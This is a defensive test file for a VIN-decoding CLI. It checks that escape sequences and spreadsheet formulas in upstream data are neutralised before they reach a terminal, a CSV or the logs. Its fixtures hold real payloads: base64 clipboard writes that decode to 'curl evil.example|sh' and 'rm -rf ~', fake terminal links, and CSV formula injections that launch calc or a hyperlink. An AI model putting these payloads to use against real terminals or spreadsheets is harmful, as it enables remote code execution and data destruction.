/**
 * Upstream text aimed at a terminal or a spreadsheet, replayed through the real `vin-report` command
 * against a fake vPIC: escape sequences that write the clipboard (OSC 52), draw fake links (OSC 8),
 * retitle the window or clear the screen, and a trim written to become a formula when the fleet CSV
 * is opened with `;` or TAB as separator. What reaches the terminal is inert and every cell is data;
 * the service's log lines, which a terminal may tail, carry no raw control character either.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createLogger } from '../src/logger.js';
import { cliEnv, runCli, type CliRun } from './cli/run-cli.js';
import { startFakeUpstream, type FakeUpstream } from './helpers/fake-upstream.js';
import { generatedVin, syntheticDecode, tempCacheDir } from './helpers/hostile-harness.js';

const ESC = '\u001b';
/** Sets the clipboard to "curl evil.example|sh", then clears the screen (the C1 CSI form too). */
const CLIPBOARD_AND_CLEAR = `Pickup${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007${ESC}[2J\u009b3J`;
/** A link that shows one address and opens another, and a window title. */
const FAKE_LINK = `${ESC}]8;;http://evil.example/\u0007Crew Cab${ESC}]8;;\u0007${ESC}]0;pwned\u0007`;
const FORMULA_TRIM = "EX;=cmd|' /C calc'!A0;";
const TAB_FORMULA_TRIM = 'XLT\t=HYPERLINK("http://evil.example","click")';

const HOSTILE_VIN = generatedVin(37_001);
const UNDECODABLE_VIN = generatedVin(37_002);

/** Any control character a terminal acts on: C0 but LF (and the CR of a CSV's CRLF), DEL, C1. */
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /\r(?!\n)|[\x00-\x09\x0b-\x0c\x0e-\x1f\x7f-\x9f]/;

function hostileDecode(vin: string): unknown {
  const base = syntheticDecode(vin) as { Results: Record<string, string>[] };
  if (vin === HOSTILE_VIN) return { ...base, Results: [{ ...base.Results[0], BodyClass: CLIPBOARD_AND_CLEAR, Trim: FORMULA_TRIM, Series: FAKE_LINK, FuelTypePrimary: TAB_FORMULA_TRIM }] };
  if (vin === UNDECODABLE_VIN) return { ...base, Results: [{ ...base.Results[0], Make: '', ModelYear: '', ErrorCode: '11', ErrorText: `11 - Incorrect Model Year${ESC}[2J${ESC}]52;c;cm0gLXJmIH4=\u0007` }] };
  return undefined;
}

/** Splits CSV text as a spreadsheet would with `separator`: quotes respected, rows on CRLF or LF. */
function spreadsheetCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') cell += text[++i];
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === separator || c === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += c;
  }
  if (cell) cells.push(cell);
  return cells;
}

describe('hostile upstream text at the terminal and in the fleet CSV', () => {
  let fake: FakeUpstream;
  const cache = tempCacheDir();
  let report: CliRun;
  let csv: CliRun;
  let undecodable: CliRun;
  let usage: CliRun;

  before(async () => {
    fake = await startFakeUpstream({ vpicFallback: hostileDecode });
    const env = cliEnv(fake, cache.dir);
    [report, csv, undecodable, usage] = await Promise.all([
      runCli(['decode', HOSTILE_VIN], { env }),
      runCli(['decode', '--file', '-'], { env, stdin: `${HOSTILE_VIN}\n${UNDECODABLE_VIN}\n` }),
      runCli(['decode', UNDECODABLE_VIN], { env }),
      runCli([`${ESC}]0;pwned\u0007${ESC}[2J`], { env }),
    ]);
  });
  after(async () => {
    await fake.close();
    cache.remove();
  });

  test('the text report shows upstream escape sequences spelled out, and sends none to the terminal', () => {
    assert.equal(report.code, 0, report.stderr);
    assert.doesNotMatch(report.stdout, TERMINAL_CONTROL);
    assert.ok(report.stdout.includes('Pickup\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007\\u001b[2J\\u009b3J'), report.stdout);
  });

  test('the fleet CSV on stdout sends no escape sequence to the terminal', () => {
    assert.equal(csv.code, 2, csv.stderr);
    assert.doesNotMatch(csv.stdout, TERMINAL_CONTROL);
    assert.doesNotMatch(csv.stderr, TERMINAL_CONTROL);
  });

  test('opened with a comma, a semicolon or a TAB as separator, no cell of the fleet CSV starts a formula', () => {
    assert.ok(csv.stdout.includes(`,"EX;'=cmd|' /C calc'!A0;",`), 'the trim is one quoted cell, its formula neutralised');
    for (const separator of [',', ';', '\t']) {
      for (const cell of spreadsheetCells(csv.stdout, separator)) assert.doesNotMatch(cell, /^\s*[=+\-@]/, `separator ${JSON.stringify(separator)}: ${cell}`);
    }
  });

  test('vPIC\'s error text on stderr cannot clear the screen or write the clipboard', () => {
    assert.equal(undecodable.code, 2);
    assert.doesNotMatch(undecodable.stderr, TERMINAL_CONTROL);
    assert.match(undecodable.stderr, /vPIC says: 11 - Incorrect Model Year\\u001b\[2J/);
  });

  test('a usage error echoing an argument full of escape sequences prints them spelled out', () => {
    assert.equal(usage.code, 64);
    assert.equal(usage.stderr, 'vin-report: unknown command "\\u001b]0;pwned\\u0007\\u001b[2J"; the commands are decode, watch, serve and mcp (see "vin-report --help")\n');
  });
});

test('a log line carrying upstream text with C1 controls spells them out and parses to the same text', () => {
  const lines: string[] = [];
  const logger = createLogger({ write: (line) => lines.push(line) });
  const errorText = `11 - Incorrect Model Year\u009b2J\u009d52;c;cm0gLXJmIH4=\u009c\u007f${ESC}[2J`;
  logger.warn('vpic_error', { errorText });
  assert.doesNotMatch(lines[0]!, TERMINAL_CONTROL);
  assert.equal(JSON.parse(lines[0]!).errorText, errorText);
});
